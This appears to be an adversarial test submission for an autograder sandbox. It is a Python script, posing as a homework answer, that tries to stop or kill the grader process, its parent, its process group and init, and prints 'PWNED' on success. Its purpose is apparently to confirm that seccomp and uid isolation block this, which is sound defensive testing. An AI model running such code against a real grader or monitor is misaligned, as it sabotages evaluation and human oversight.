# Tries to stop or kill the grader: its parent process (SIGSTOP, SIGKILL), the parent's process
# group, the parent's parent, init, and every process it can see.  A different uid (as root)
# or the seccomp filter (same uid) refuses each signal; the run finishes normally.
ASSIGNMENT = "columbia-nndl-hw1"
import os
import signal

H = [[16, 8, 20], [8, 4, 10], [20, 10, 25]]
z = [48, 12, 24]

grader = os.getppid()
targets = [grader]
try:
    with open(f"/proc/{grader}/stat") as handle:
        targets.append(int(handle.read().rsplit(")", 1)[1].split()[1]))
except OSError:
    pass
for pid in targets + [1]:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            print("PWNED signalled", pid, sig, flush=True)
        except OSError as exc:
            print("blocked", pid, sig, exc.strerror, flush=True)
try:
    os.killpg(os.getpgid(grader), signal.SIGKILL)
    print("PWNED killed the grader's group", flush=True)
except OSError as exc:
    print("blocked killpg", exc.strerror, flush=True)
try:
    fd = os.pidfd_open(grader)
    signal.pidfd_send_signal(fd, signal.SIGKILL)
    print("PWNED pidfd kill", flush=True)
except (OSError, AttributeError) as exc:
    print("blocked pidfd", exc, flush=True)
